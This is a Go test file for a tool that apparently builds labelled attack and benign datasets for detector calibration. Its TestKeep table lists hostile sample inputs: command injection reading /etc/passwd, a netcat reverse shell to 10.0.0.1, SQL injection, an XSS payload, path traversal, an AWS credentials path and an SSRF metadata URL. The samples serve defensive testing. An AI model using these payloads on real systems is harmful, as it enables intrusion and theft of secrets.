package main

import (
	"strings"
	"testing"
)

func TestKeep(t *testing.T) {
	for _, tc := range []struct {
		label, text string
		want        bool
	}{
		{"command_injection", "; cat /etc/passwd", true},
		{"command_injection", "$(id)", true},
		{"command_injection", "for %v in (set) do command", false},  // no separator: a strange hostname
		{"command_injection", "nc -e /bin/sh 10.0.0.1 4242", false}, // in a hostname field: no second command
		{"sql_injection", "' or 1=1 --", true},
		{"sql_injection", "blue running shoes", false},
		{"xss", "<img src=x onerror=alert(1)>", true},
		{"xss", "alert(1)", false},
		{"path_traversal", "..%2f..%2fetc/passwd", true},
		{"path_traversal", "docs/readme.md", false},
		{"sensitive_paths", ".aws/credentials", true},
		{"sensitive_paths", "package.json", false},
		{"ssrf", "http://169.254.169.254/latest/", true},
		{"ssrf", "not a url", false},
	} {
		t.Run(tc.label+" "+tc.text, func(t *testing.T) {
			got, why := keep(attack{label: tc.label, text: tc.text})
			if got != tc.want {
				t.Errorf("keep = %v (%s), want %v", got, why, tc.want)
			}
			if !got && why == "" {
				t.Error("a dropped line needs a reason")
			}
		})
	}
}

func collect(f func(add func(kind, text, rel string, line int))) []string {
	var out []string
	f(func(kind, text, _ string, _ int) { out = append(out, kind+": "+strings.TrimSpace(text)) })
	return out
}

func TestMarkdown(t *testing.T) {
	src := "# Title\n\nThis paragraph explains how to install the tool and run it on a new machine today.\n" +
		"See https://example.org/docs.\n\n```console\n$ go build ./...\nok output line\n```\n\n" +
		"```sh\nmake test \\\n  -j2\n# a comment\n```\n\n```sql\nSELECT 1;\nDROP TABLE t;\n```\n"
	got := strings.Join(collect(func(add func(kind, text, rel string, line int)) { markdown(src, "README.md", add) }), "\n")
	for _, want := range []string{
		"prose: This paragraph explains",
		"url: https://example.org/docs",
		"shell: go build ./...",
		"shell: make test \\\n  -j2",
		"sql: SELECT 1;",
		"sql: DROP TABLE t;",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("missing %q in\n%s", want, got)
		}
	}
	if strings.Contains(got, "ok output line") || strings.Contains(got, "a comment") {
		t.Errorf("output or comment taken as a command:\n%s", got)
	}
}

func TestMakefileAndWorkflow(t *testing.T) {
	mk := collect(func(add func(kind, text, rel string, line int)) {
		makefile("build:\n\t@go build -o bin/x ./cmd/x\n\t-rm -f tmp\n\t$(GO) vet ./...\n\tdocker rm $$(docker ps -aq)\n", "Makefile", add)
	})
	if strings.Join(mk, "|") != "shell: go build -o bin/x ./cmd/x|shell: rm -f tmp|shell: docker rm $(docker ps -aq)" {
		t.Errorf("makefile: %q", mk)
	}
	wf := collect(func(add func(kind, text, rel string, line int)) {
		workflow("steps:\n  - run: go test ./...\n  - run: echo ${{ matrix.os }}\n  - name: x\n    run: |\n      make lint\n      make test\n  - uses: y\n", "ci.yml", add)
	})
	if strings.Join(wf, "|") != "shell: go test ./...|shell: make lint|shell: make test" {
		t.Errorf("workflow: %q", wf)
	}
}

func TestSplitIsStable(t *testing.T) {
	first := splitOf("g1")
	for range 3 {
		if splitOf("g1") != first {
			t.Fatal("splitOf is not stable")
		}
	}
	n := 0
	for i := range 1000 {
		if splitOf(strings.Repeat("x", i)) == "calib" {
			n++
		}
	}
	if n < 300 || n > 500 {
		t.Errorf("%d of 1000 groups in calib, want about %d%%", n, calibShare)
	}
}

// The wide set's sources are none of the main set's: no file may feed both.
func TestWideModulesAreNew(t *testing.T) {
	main := map[string]bool{}
	for _, m := range goModules {
		main[m.Path] = true
	}
	checkNewModules(t, wideModules, main, "in both goModules and wideModules")
}

// checkNewModules fails for a module of mods whose path is in used (said as inUsed), or whose
// version, licence or name is missing, or whose name another module of mods has.
func checkNewModules(t *testing.T, mods []goModule, used map[string]bool, inUsed string) {
	t.Helper()
	names := map[string]bool{}
	for _, m := range mods {
		if used[m.Path] {
			t.Errorf("%s is %s", m.Path, inUsed)
		}
		if m.Version == "" || m.License == "" || m.Name == "" || names[m.Name] {
			t.Errorf("%s: version %q, licence %q, name %q (names must be set and unique)", m.Path, m.Version, m.License, m.Name)
		}
		names[m.Name] = true
	}
}

// Tool output is the wide set's only: the main set's caps drop it, and it is placed as a tool's
// answer, judged in the response phase.
func TestToolOutputKinds(t *testing.T) {
	m := goModule{Path: "example.com/m", Version: "v1.0.0", Name: "m"}
	cands := []candidate{
		{kind: "doc_output", text: "# Title\n\nSome docs.", mod: m, rel: "README.md", source: "a", group: "g1"},
		{kind: "code_output", text: "package m\n", mod: m, rel: "m.go", source: "b", group: "g2"},
		{kind: "prose", text: "Some docs for people to read.", mod: m, rel: "README.md", source: "c", group: "g1"},
	}
	if got := sample(cands, kindCap); len(got) != 1 || got[0].kind != "prose" {
		t.Errorf("main set sample = %+v, want the prose only", got)
	}
	recs := placeBenign(sample(cands, wideCap))
	if len(recs) != 3 {
		t.Fatalf("wide set placed %d records, want 3", len(recs))
	}
	for _, r := range recs {
		out := r.Kind == "doc_output" || r.Kind == "code_output"
		if out != (r.Phase == "response") || out != (r.Result != "") || out && r.Result != r.Text {
			t.Errorf("%s placed as phase %q with result %q", r.Kind, r.Phase, r.Result)
		}
	}
}
